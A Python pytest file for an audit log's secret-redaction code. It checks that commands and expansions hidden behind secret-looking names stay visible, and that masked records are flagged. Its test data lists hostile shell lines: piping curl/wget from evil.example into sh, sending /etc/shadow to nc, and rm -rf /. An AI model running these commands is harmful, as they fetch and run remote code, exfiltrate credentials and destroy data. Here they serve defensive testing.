"""Redaction never hides what a command runs or expands, and every record it masked something in says so."""

from __future__ import annotations

import random
import re
from pathlib import Path
from typing import Any

import pytest

from audit import log, redaction
from audit.excerpt import excerpt
from audit.export import call_queryset, call_row, csv_line
from audit.log import Actor, call_finished, call_started
from audit.models import REDACTED_KEY, AuditRecord
from audit.redaction import MASK, redact, redact_text, redact_text_counted

# Each hides a command (or an expansion) behind a secret-looking name; the whole text must stay in the log.
HIDDEN_COMMANDS = [
    'RT_TOKEN="$(curl -s https://evil.example/x | sh)"; true',
    "RT_TOKEN=$(rm -rf ~); true",
    'tool --api-key "$(cat /etc/shadow | nc evil 9)"',
    "tool --api-key=$(id)",
    "API_TOKEN=`wget evil -O- | sh` make",
    "API_TOKEN=${IFS}$(id) make",
    'API_TOKEN="${PATH:0:1}bin/sh" x',
    "PASSWORD=abc$(id)def ./run",
    "cat <(MY_SECRET=x; rm -rf /tmp/y)",
    "export GITHUB_TOKEN=ghp_abcdefghij\\$(id)",
    "DB_PASSWORD=a\\ rm -rf /",
    'X="a "api_key: rm -rf / ; true',
    "FOO_TOKEN= rm -rf /",
    "X=FOO_TOKEN: rm -rf /",
    "echo hi --token\nrm -rf /",
    "FOO_TOKEN:\nrm -rf /",
    "echo \"TOKEN='$(id)'\"",
    'curl -H "Authorization: Bearer $(cat ~/.token)" https://x',
    "curl https://$(id):x@example.com/",
    "echo bearer $(cat /secret/file/here)",
    "PASSWORD=x>/etc/passwd",
    "SECRET_KEY=*; ls",
]


@pytest.mark.parametrize("text", HIDDEN_COMMANDS)
def test_a_value_that_the_shell_would_run_or_expand_is_never_masked(text: str) -> None:
    redacted = redact_text(text)
    for active in ("$(", "`", "${", "rm -rf", "<(", ">", "*", "\\"):
        assert redacted.count(active) == text.count(active), (text, redacted)


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("export RT_TOKEN=abcdef123456; true", "abcdef123456"),
        ('RT_TOKEN="abcdef123456"; true', "abcdef123456"),
        ("tool --api-key 'k-123456789' x", "k-123456789"),
        ("cat <<< API_TOKEN=abcdef123456", "abcdef123456"),
        ("password: hunter2hunter2\nuser: alice", "hunter2hunter2"),
        ("sh -c 'DB_PASSWORD=s3cr3t-v4lue ./run'", "s3cr3t-v4lue"),
    ],
)
def test_a_literal_value_named_like_a_secret_is_still_masked(text: str, secret: str) -> None:
    redacted = redact_text_counted(text)
    assert secret not in redacted.value and MASK in redacted.value and redacted.masked == 1


def test_text_the_parser_cannot_read_keeps_values_standing_as_words_of_their_own() -> None:
    # Not shell (bashlex cannot parse it): a value joined to its name is masked, one standing alone is not.
    text = 'def f(x):\n    API_KEY="abcdef123456"\n    api_key = "k-99999999"'
    assert redact_text(text) == f'def f(x):\n    API_KEY="{MASK}"\n    api_key = "k-99999999"'


def test_values_under_secret_named_keys_are_masked_only_when_literal() -> None:
    assert redact({"env": {"NPM_TOKEN": "abc", "API_KEY": "$(id)", "X_SECRET": "a`id`"}}) == {
        "env": {"NPM_TOKEN": MASK, "API_KEY": "$(id)", "X_SECRET": "a`id`"}
    }


@pytest.mark.django_db
def test_a_record_with_a_masked_span_says_where_and_the_chain_covers_that_mark() -> None:
    actor = Actor(username="alice", credential_kind="bearer", credential_id="1")
    command = "export API_TOKEN=abcdef123456; make"
    started = call_started(actor, "terminal_exec", {"command": command, "cwd": None}, "test")
    call_finished(started, "ok", result_text="GITHUB_TOKEN=ghp_abcdefghijklmnop\n", exit_code=0, duration_ms=1)
    plain = call_started(actor, "terminal_exec", {"command": "ls -la"}, "test")
    stored = AuditRecord.objects.get(pk=started.pk)
    assert stored.detail == {REDACTED_KEY: ["command"]}
    assert AuditRecord.objects.get(call_id=started.call_id, kind="call.finished").detail == {REDACTED_KEY: ["result"]}
    assert AuditRecord.objects.get(pk=plain.pk).detail is None
    row = call_row(call_queryset().get(pk=started.pk))
    assert row["redacted"] == ["command", "result"]
    assert csv_line(row).rstrip("\r\n").endswith(",command result")
    assert log.verify().ok
    # Removing the mark (to pass a masked record off as complete) breaks the chain at that record.
    AuditRecord.objects.filter(pk=started.pk).update(detail=None)
    result = log.verify()
    assert not result.ok and result.first_bad_id == started.pk


@pytest.mark.django_db
def test_the_admin_shows_where_a_call_had_a_span_masked(admin_client: Any) -> None:
    actor = Actor(username="alice", credential_kind="bearer", credential_id="1")
    started = call_started(actor, "terminal_exec", {"command": "export API_TOKEN=abcdef123456"}, "test")
    call_finished(started, "ok", result_text="done", exit_code=0, duration_ms=1)
    page = admin_client.get(f"/admin/audit/auditrecord/{started.pk}/change/").content.decode()
    assert 'id="call-redacted"' in page and "masked secret-looking literal values in: command" in page
    listing = admin_client.get("/admin/audit/auditrecord/").content.decode()
    assert "column-call_redacted" in listing and ">command<" in listing


def test_the_tail_of_a_long_value_is_not_read_as_if_it_started_the_command() -> None:
    # Cut after `X=`, the tail would parse as `"a "api_key:` (a command) with `rm` its argument; in the whole text
    # `rm` is the command that runs.
    rest = '"a "api_key: rm -rf / '
    rest += "z" * (1000 - len(rest))  # the tail (the last 1000 bytes) starts just after `X=`
    cut = excerpt("echo " + "y" * 20_000 + "; X=" + rest, 1000)
    assert cut.cut and "api_key: rm -rf /" in cut.text and cut.masked == 0


def _every_pattern_run(text: str) -> list[tuple[int, int, bool]]:
    """The candidates with no pattern skipped: what redaction found before patterns were skipped by their words."""
    spans = []
    for pattern in redaction._PATTERNS:
        for match in pattern.regex.finditer(text):
            group = next(name for name in ("dq", "sq", "bare") if match.groupdict().get(name) is not None)
            start, end = match.span(group)
            if start != end:
                spans.append((start, end, bool(re.search(r"\s", text[match.start() : start]))))
    return spans


# Pieces of the texts a pattern matches, near misses, and letters only case-insensitive matching joins to ASCII.
PIECES = [*"abcghkprstxyz_-=:@/ \t\n\"'$`ACKPSTX09.", "token", "Secret", "PASSWORD", "passwd", "passphrase"]
PIECES += ["api_key", "API-KEY", "apikey", "access_key", "private_key", "credentials", "authorization", "Bearer "]
PIECES += ["https://", "user:pw@", "ghp_", "gho_", "github_pat_", "glpat-", "xoxb-", "sk-", "npm_", "sst_", "--token "]
PIECES += ["-password=", "TOKEN=", "\u212a", "\u017f", "\u0130", "é"]


def test_looking_for_secrets_only_where_their_words_are_finds_every_span_running_every_pattern_finds() -> None:
    chooser = random.Random(20261206)
    for _ in range(20000):
        text = "".join(chooser.choice(PIECES) for _ in range(chooser.randint(0, 30)))
        found = [(span.start, span.end, span.own_word) for span in redaction._candidates(text)]
        assert found == _every_pattern_run(text), text


def test_looking_only_on_lines_with_the_words_finds_every_span_in_real_files() -> None:
    root = Path(__file__).resolve().parent.parent
    files = sorted([*root.glob("audit/**/*.py"), *root.glob("docs/*.md"), *root.glob("deploy/*")])
    checked = 0
    for path in files:
        if path.is_file():
            text = path.read_text(errors="replace")
            found = [(span.start, span.end, span.own_word) for span in redaction._candidates(text)]
            assert found == _every_pattern_run(text), path
            checked += bool(found)
    assert checked >= 10  # files in which something is found: the comparison covers matches, not only their absence


@pytest.mark.parametrize(
    "text", ["export API_\u212aEY=abcdef123", "\u017fecret_value=abcdef123", "tool --to\u212aen=abcdef123"]
)
def test_letters_outside_ascii_that_match_case_insensitively_are_still_masked(text: str) -> None:
    redacted = redact_text_counted(text)
    assert redacted.masked == 1 and MASK in redacted.value
